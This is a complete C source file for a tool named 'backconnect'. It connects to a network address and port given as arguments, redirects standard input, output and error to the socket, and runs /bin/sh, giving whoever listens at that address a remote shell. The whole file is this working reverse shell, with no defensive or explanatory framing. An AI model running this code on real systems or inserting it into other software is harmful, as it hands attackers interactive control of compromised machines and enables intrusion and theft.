// SPDX-License-Identifier: Apache-2.0
// backconnect ADDRESS PORT: connects, and becomes a shell that talks through the socket.
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char **argv) {
  struct sockaddr_in to = {.sin_family = AF_INET};
  if (argc != 3 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1) { fprintf(stderr, "usage: backconnect ADDRESS PORT\n"); return 2; }
  to.sin_port = htons(atoi(argv[2]));
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  if (connect(fd, (struct sockaddr *)&to, sizeof to) != 0) { perror("connect"); return 1; }
  dup2(fd, 0);
  dup2(fd, 1);
  dup2(fd, 2);
  execl("/bin/sh", "sh", (char *)NULL);
  perror("/bin/sh");
  return 1;
}
